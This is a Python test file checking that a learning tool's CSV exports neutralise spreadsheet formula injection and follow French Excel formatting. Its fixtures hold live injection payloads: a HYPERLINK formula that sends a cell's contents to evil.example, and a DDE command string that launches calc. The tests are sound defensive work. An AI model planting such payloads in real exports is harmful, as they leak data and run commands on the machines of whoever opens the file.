"""Every CSV the tool writes, read back as Excel would: formulas from hostile names and titles neutralised,
UTF-8 with BOM, `;` and decimal commas, French headers and labels, Paris times (English when the UI is)."""
import csv
import io
import re
import zipfile
from decimal import Decimal

from sqlalchemy import select, update

from lti_tool.services import csv_export
from models import Enrolment, LearnerProfile, Step, WorkshopSession, db
from tests.fixtures.browser import LtiBrowser
from tests.functional.test_dpc import attended_learner, save_programme
from tests.functional.test_pathways_flow import post

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def read(data: bytes, delimiter=";") -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), data[:20]  # the BOM: Excel reads UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not value.startswith(DANGEROUS), (value, row)


def hostile_pathway(app, person, platform, client):
    """A validated DPC participant whose Moodle name is a formula, a step title starting with "+"."""
    instructor, learner, pathway_id = attended_learner(app, person, platform)
    with app.app_context():
        module_id = db.session.scalars(select(Step.id).where(Step.pathway_id == pathway_id,
                                                             Step.kind == "module")).one()
        db.session.execute(update(Step).where(Step.title == "Post-test").values(title="+SOMME(A1:A9)"))
        db.session.execute(update(WorkshopSession).values(title="@Atelier -2"))
        db.session.commit()
    heartbeat = post(learner, f"/learner/steps/{module_id}/heartbeat", {}, page=f"/learner/steps/{module_id}")
    assert heartbeat.status_code == 200
    assert save_programme(instructor, pathway_id).status_code == 303
    with app.app_context():
        enrolment_id = db.session.scalars(select(Enrolment.id).join(
            LearnerProfile, LearnerProfile.user_id == Enrolment.user_id)).one()
    assert post(instructor, f"/instructor/pathways/{pathway_id}/dpc/{enrolment_id}", {"action": "validate"},
                page=f"/instructor/pathways/{pathway_id}/dpc").status_code == 303
    # The learner comes back from Moodle with a profile edited by an attacker: the names are claims.
    relaunch = LtiBrowser(client, platform).launch(user="101", claims_update={
        "name": HOSTILE_NAME, "given_name": "+33 6 12 34 56 78", "family_name": "@Martin", "email": "-x@example.org"})
    assert relaunch.status_code in (302, 303), relaunch.text
    return instructor, pathway_id


def test_every_export_neutralises_formulas_and_opens_in_french_excel(app, person, platform, client):
    instructor, pathway_id = hostile_pathway(app, person, platform, client)
    files = {}
    for table in ("learners", "professions", "steps", "sessions"):
        response = instructor.get(f"/instructor/pathways/{pathway_id}/export/{table}.csv")
        assert response.status_code == 200 and response.mimetype == "text/csv"
        assert response.headers["Cache-Control"] == "no-store"
        files[table] = read(response.data)
    declaration = instructor.get(f"/instructor/pathways/{pathway_id}/dpc/declaration.csv")
    assert declaration.status_code == 200
    files["declaration"] = read(declaration.data)
    with app.app_context():
        session_id = db.session.scalars(select(WorkshopSession.id)).one()
    archive = zipfile.ZipFile(io.BytesIO(instructor.get(f"/instructor/sessions/{session_id}/evidence.zip").data))
    files["times"] = read(archive.read("temps-en-ligne.csv"))
    files["questionnaires"] = read(archive.read("questionnaires.csv"))

    for rows in files.values():
        assert_no_formula(rows)
        assert len({len(row) for row in rows}) == 1  # `;` separates every line into the same columns

    learners = files["learners"]
    assert learners[0] == ["Nom", "Adresse e-mail", "Code profession", "Profession", "État", "Progression (%)",
                           "Score (/100)"]
    assert learners[1][0] == "'" + HOSTILE_NAME and learners[1][1] == "'-x@example.org"
    assert learners[1][3] == "Infirmier" and learners[1][4] == "En cours"
    assert re.fullmatch(r"\d+,\d", learners[1][5]), learners[1]  # a decimal comma, a number for Excel

    assert files["professions"][0][:2] == ["Code profession", "Profession"]
    assert files["steps"][0] == ["Numéro d'étape", "Étape", "Type d'étape", "Inscrits", "Terminé",
                                 "Taux d'achèvement (%)"]
    titles = {row[1]: row[2] for row in files["steps"][1:]}
    assert titles["'+SOMME(A1:A9)"] == "Questionnaire" and titles["MOOC iatrogénie"] == "Module en ligne"

    sessions = files["sessions"]
    assert sessions[0][:4] == ["Numéro de session", "Session", "Début", "Format"]
    assert sessions[1][1] == "'@Atelier -2" and sessions[1][3] == "Séminaire"
    with app.app_context():
        starts_at = db.session.get(WorkshopSession, session_id).starts_at
    assert sessions[1][2] == starts_at.astimezone(csv_export.PARIS).strftime("%d/%m/%Y %H:%M")
    assert sessions[1][2].endswith("09:00")  # scheduled at 9:00 in Paris, whatever UTC says
    assert sessions[1][8] == "50,0" and sessions[1][9] == "Infirmier : 1"

    declaration = files["declaration"]
    assert declaration[0][:6] == ["Numéro d'action DPC", "Numéro de session DPC", "Nom", "Prénom", "Profession",
                              "Numéro RPPS"]
    assert declaration[1][:6] == ["12342500011", "26.001", "'@Martin", "'+33 6 12 34 56 78", "Infirmier",
                                  "10101010105"]
    assert re.fullmatch(r"\d\d/\d\d/\d{4}", declaration[1][10])

    times = files["times"]
    assert times[0] == ["Participant", "Étape", "Début", "Fin", "Secondes", "Source"]
    assert times[1][0] == "'" + HOSTILE_NAME and times[1][5] == "Page de l'outil"
    assert re.fullmatch(r"\d\d/\d\d/\d{4} \d\d:\d\d", times[1][2])
    questionnaires = {row[1]: row for row in files["questionnaires"][1:]}
    assert files["questionnaires"][0] == ["Participant", "Questionnaire", "Rôle", "Score (/100)", "Date"]
    assert questionnaires["'+SOMME(A1:A9)"][2] == "Post-test" and questionnaires["Pré-test"][3] == "50,0"


def test_exports_follow_an_english_interface(app, person, platform, client):
    _, pathway_id = hostile_pathway(app, person, platform, client)
    instructor = app.test_client()
    LtiBrowser(instructor, platform).launch_via_demo(user="201", locale="en")
    rows = read(instructor.get(f"/instructor/pathways/{pathway_id}/export/learners.csv").data, delimiter=",")
    assert rows[0][:5] == ["Name", "E-mail address", "Profession code", "Profession", "State"]
    assert rows[1][0] == "'" + HOSTILE_NAME and rows[1][3] == "Nurse" and rows[1][4] == "In progress"
    assert re.fullmatch(r"\d+\.\d", rows[1][5])


def test_numbers_stay_numbers_and_text_that_looks_like_a_formula_does_not(app):
    with app.test_request_context(headers={"Accept-Language": "fr"}):
        columns = [csv_export.Column("a", "A"), csv_export.Column("b", "B")]
        rows = read(csv_export.write(columns, [{"a": -3, "b": "-3"}, {"a": -2.5, "b": "\tx"},
                                               {"a": 0.0, "b": "\rcmd|' /C calc'!A0"},
                                               {"a": Decimal("12.50"), "b": "@SUM(1)"}]))
    assert rows[1:] == [["-3", "'-3"], ["-2,5", "'\tx"], ["0,0", "'\rcmd|' /C calc'!A0"], ["12,5", "'@SUM(1)"]]
